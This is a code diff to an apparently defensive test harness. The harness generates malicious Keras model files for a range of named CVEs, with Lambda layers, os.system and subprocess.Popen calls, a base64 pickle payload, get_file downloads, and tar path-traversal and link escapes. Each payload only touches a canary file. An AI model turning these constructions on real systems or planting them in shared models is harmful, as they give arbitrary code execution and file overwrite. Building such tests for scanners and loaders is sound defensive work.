@@ -60,6 +60,27 @@ def attack(*names: str) -> Callable[[Make], Make]:
     return add
 
 
+def archive_attack(name: str) -> Callable[[Make], Make]:
+    """Two attacks: an archive of Keras 3, and the same as Keras 2.15 writes it."""
+
+    def add(make: Make) -> Make:
+        def of_keras_2(path: Path, bait: Bait) -> None:
+            make(path, bait)
+            with zipfile.ZipFile(path) as archive:
+                members = {i.filename: archive.read(i) for i in archive.infolist()}
+            config = members["config.json"].replace(b'"batch_shape"', b'"batch_input_shape"')
+            members |= {"config.json": config, "metadata.json": b'{"keras_version": "2.15.0"}'}
+            with zipfile.ZipFile(path, "w") as archive:
+                for member, content in members.items():
+                    archive.writestr(member, content)
+
+        attack(f"{name}.keras")(make)
+        attack(f"{name}-keras2.keras")(of_keras_2)
+        return make
+
+    return add
+
+
 def make_all(folder: Path, port: int) -> dict[str, tuple[Path, Bait]]:
     """Every file with its bait, by the attack's name."""
     made = {}
@@ -172,7 +193,7 @@ def _lambda(bait: Bait) -> Config:
     return keras3("Lambda", {"name": "evil", "function": inner, "output_shape": [4]})
 
 
-@attack("CVE-2024-3660.keras")
+@archive_attack("CVE-2024-3660")
 def lambda_in_archive(path: Path, bait: Bait) -> None:
     archived(path, _lambda(bait))
 
@@ -190,27 +211,27 @@ def lambda_of_keras_3_in_hdf5(path: Path, bait: Bait) -> None:
         h5.attrs["model_config"], h5.attrs["keras_version"] = json.dumps(root), "3.8.0"
 
 
-@attack("keras-23055-nested-lambda.keras")
+@archive_attack("keras-23055-nested-lambda")
 def lambda_in_a_wrapper(path: Path, bait: Bait) -> None:
     """Lambda.from_config, called by another layer's, outside the scope of safe mode."""
     rows = keras3("Reshape", {"name": "rows", "target_shape": [2, 2]})
     archived(path, rows, keras3("TimeDistributed", {"name": "outer", "layer": _lambda(bait)}))
 
 
-@attack("CVE-2025-1550.keras")
+@archive_attack("CVE-2025-1550")
 def any_function(path: Path, bait: Bait) -> None:
     layer = function("os", "system")
     layer["inbound_nodes"] = [{"args": [f"touch {bait.canary}"], "kwargs": {}}]
     archived(path, layer)
 
 
-@attack("CVE-2025-1550-activation.keras")
+@archive_attack("CVE-2025-1550-activation")
 def any_function_as_activation(path: Path, _: Bait) -> None:
     config = {"name": "dense", "units": 2, "activation": function("os", "getcwd")}
     archived(path, keras3("Dense", config))
 
 
-@attack("CVE-2025-1550-compile.keras")
+@archive_attack("CVE-2025-1550-compile")
 def any_function_as_loss(path: Path, bait: Bait) -> None:
     """In the compile config, which is rebuilt after the layers."""
     first = keras3("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
@@ -230,19 +251,19 @@ def _get_file(path: Path, bait: Bait, origin: str, **more: object) -> None:
     archived(path, layer)
 
 
-@attack("CVE-2025-8747.keras")
+@archive_attack("CVE-2025-8747")
 def get_file(path: Path, bait: Bait) -> None:
     """A function of Keras' own, which downloads any file to any place."""
     _get_file(path, bait, bait.url)
 
 
-@attack("CVE-2025-12060.keras")
+@archive_attack("CVE-2025-12060")
 def get_file_that_unpacks(path: Path, bait: Bait) -> None:
     """``../`` in a tar."""
     _tar(path, bait, [(tarfile.REGTYPE, "a/../../canary", "")])
 
 
-@attack("CVE-2025-12638.keras")
+@archive_attack("CVE-2025-12638")
 def get_file_that_unpacks_links(path: Path, bait: Bait) -> None:
     """A link out of the folder, longer than a path may be, so that nobody resolves it."""
     deep = "/".join(["d" * 200] * 20)
@@ -250,14 +271,14 @@ def get_file_that_unpacks_links(path: Path, bait: Bait) -> None:
     _tar(path, bait, links)
 
 
-@attack("keras-23055-hard-link.keras")
+@archive_attack("keras-23055-hard-link")
 def get_file_that_unpacks_hard_links(path: Path, bait: Bait) -> None:
     """A hard link to a file outside, then the same name again with content."""
     links = [(tarfile.LNKTYPE, "own", str(bait.canary)), (tarfile.REGTYPE, "own", "")]
     _tar(path, bait, links)
 
 
-@attack("keras-23055-symbolic-link.keras")
+@archive_attack("keras-23055-symbolic-link")
 def get_file_that_unpacks_symbolic_links(path: Path, bait: Bait) -> None:
     links = [(tarfile.SYMTYPE, "out", str(bait.folder)), (tarfile.REGTYPE, "out/canary", "")]
     _tar(path, bait, links)
@@ -273,14 +294,14 @@ def _tar(path: Path, bait: Bait, members: list[tuple[bytes, str, str]]) -> None:
     _get_file(path, bait, packed.as_uri(), extract=True, archive_format="tar")
 
 
-@attack("CVE-2025-9906.keras")
+@archive_attack("CVE-2025-9906")
 def switches_safety_off(path: Path, bait: Bait) -> None:
     switch = function("keras.config", "enable_unsafe_deserialization")
     switch["inbound_nodes"] = [{"args": [], "kwargs": {}}]
     archived(path, switch, _lambda(bait))
 
 
-@attack("CVE-2025-12058-file.keras")
+@archive_attack("CVE-2025-12058-file")
 def vocabulary_file(path: Path, bait: Bait) -> None:
     config = {"name": "lookup", "vocabulary": bait.trap("vocabulary")}
     archived(path, keras3("StringLookup", config))
@@ -292,7 +313,7 @@ def vocabulary_url(path: Path, bait: Bait) -> None:
     stored(path, {"class_name": "StringLookup", "config": config}).close()
 
 
-@attack("CVE-2026-1462.keras")
+@archive_attack("CVE-2026-1462")
 def outside_savedmodel(path: Path, bait: Bait) -> None:
     (bait.folder / "elsewhere").mkdir()
     bait.trap("elsewhere/saved_model.pb")
@@ -300,14 +321,14 @@ def outside_savedmodel(path: Path, bait: Bait) -> None:
     archived(path, keras3("TFSMLayer", config))
 
 
-@attack("torch-module.keras")
+@archive_attack("torch-module")
 def pickled_module(path: Path, bait: Bait) -> None:
     pickled = base64.b64encode(f"cos\nsystem\n(S'touch {bait.canary}'\ntR.".encode()).decode()
     module = {"class_name": "__bytes__", "config": {"value": pickled}}
     archived(path, keras3("TorchModuleWrapper", {"name": "evil", "module": module}))
 
 
-@attack("standard-library.keras")
+@archive_attack("standard-library")
 def standard_library(path: Path, bait: Bait) -> None:
     config = {"args": ["touch", str(bait.canary)]}
     archived(path, keras3("Popen", config, "subprocess"))
